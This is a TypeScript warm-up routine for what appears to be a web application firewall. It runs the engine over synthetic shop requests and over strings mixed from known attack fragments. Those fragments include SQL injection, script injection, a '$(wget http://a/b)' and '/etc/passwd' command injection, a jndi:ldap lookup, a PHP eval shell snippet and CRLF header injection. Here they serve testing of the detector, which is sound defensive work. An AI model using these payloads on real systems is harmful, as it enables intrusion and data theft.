/**
 * What a first request would have to wait for, done before it: automata taught what ordinary text looks like, the code of
 * all phases compiled by V8. A pattern of its own is only asked where one matches, so it is compiled when that happens. The requests are ordinary ones and one that many rules match.
 */
import type { Header, HttpRequest, HttpResponse, Outcome } from './model.ts'

/** V8 interprets first and compiles what has been run some times. */
const turns = 60

type Evaluate = (request: HttpRequest, response: HttpResponse) => Outcome

export function warmUp(evaluate: Evaluate): void {
  for (let turn = 0; turn < turns; turn++) for (const request of requestsOf(turn)) evaluate(request, page)
}

const words =
  'order list of the items in my basket, and their price: for user name, city or street; view page 2 by date'.split(' ')
/** Not the same twice: what was found in a text is remembered. */
const textOf = (turn: number, length: number): string =>
  Array.from(
    { length },
    (_, at) => words[(at * 7 + turn) % words.length]! + (at % 9 === 0 ? turn * 7919 + at : ''),
  ).join(' ')

const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0'
const headersOf = (turn: number): readonly Header[] => [
  ['Host', 'www.example.com'],
  ['User-Agent', agent],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-GB,en;q=0.7,de;q=0.3'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Referer', `https://www.example.com/shop/${turn}?id=${turn}&sort=date`],
  ['Cookie', `session=${turn}a7f3b${turn}; theme=dark; seen=%7B%22id%22%3A${turn}%7D`],
]

function requestsOf(turn: number): readonly HttpRequest[] {
  const post = (type: string, body: string): HttpRequest => ({
    method: 'POST',
    uri: `/shop/${turn}`,
    protocol: 'HTTP/1.1',
    headers: [...headersOf(turn), ['Content-Type', type], ['Content-Length', String(body.length)]],
    body,
  })
  const item = { id: turn, name: textOf(turn, 6), price: turn / 7, tags: ['new', `t${turn}`], note: null }
  const field = (name: string, more: string, value: string): string =>
    `--B${turn}\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`
  const parts = field('text', '', textOf(turn, 20)) + field('file', '; filename="a.png"', 'bytes')
  const attacks = (number: number): readonly HttpRequest[] => {
    const text = attackOf(number)
    const form = post(
      'application/x-www-form-urlencoded',
      `a=${encodeURIComponent(text)}&b=${encodeURIComponent(text.slice(0, 99))}`,
    )
    const everywhere: readonly Header[] = [
      ['Cookie', `a=${text}`],
      ['Referer', text],
      ['User-Agent', text],
    ]
    return [
      form,
      { ...form, uri: `/${encodeURIComponent(text)}`, headers: [...headersOf(number), ...everywhere], body: '' },
    ]
  }
  return [
    {
      ...post('', ''),
      method: 'GET',
      headers: headersOf(turn),
      uri: `/shop/${turn}.html?q=${textOf(turn, 2).replaceAll(' ', '+')}&page=${turn}`,
    },
    post('application/x-www-form-urlencoded', `name=${encodeURIComponent(textOf(turn, 60))}&mail=a%40example.com`),
    post('application/json', JSON.stringify({ items: [item, item], user: `u${turn}` })),
    post(`multipart/form-data; boundary=B${turn}`, `${parts}--B${turn}--\r\n`),
    post('text/xml', `<order id="${turn}"><item>${textOf(turn, 8)}</item></order>`),
    ...(turn % 6 === 0 ? attacks(turn / 6) : []),
  ]
}

/** What attacks are made of; each turn has it in another order, so that patterns meet each other's beginnings. */
const pieces = [
  ...[
    "' or 1=1",
    'union select a,b from c',
    'where x like',
    '-- ',
    '/*',
    '*/',
    'sleep(5)',
    'char(0x41)',
    '";',
    '`',
    ' and ',
  ],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=',
    'javascript:',
    'style=',
    '&lt;',
    '&#x3c;',
    '<!--',
    '">',
    '<a href=',
  ],
  ...[
    ';cat /etc/passwd|id',
    '$(wget http://a/b)',
    '\x24{IFS}',
    'c\\at',
    '../../',
    '%2e%2e/',
    '\x24{jndi:ldap://a}',
    '{',
    '}',
    '?',
    '*',
  ],
  ...[
    '<?php eval($_GET[a])',
    'base64_decode(',
    'System.out',
    'require("a").b',
    '__proto__',
    '\r\nSet-Cookie: a=b',
    '\\u003c',
    '%u003c',
  ],
]
function attackOf(turn: number): string {
  const step = [1, 3, 5, 7, 9, 11][turn % 6]!
  return Array.from({ length: 120 }, (_, at) => pieces[(at * step + turn) % pieces.length]!).join(turn % 2 ? ' ' : '')
}

const page: HttpResponse = {
  status: 200,
  headers: [['Content-Type', 'text/html; charset=utf-8']],
  body: `<!doctype html><html><head><title>Shop</title></head><body><p>${textOf(1, 200)}</p></body></html>`,
}
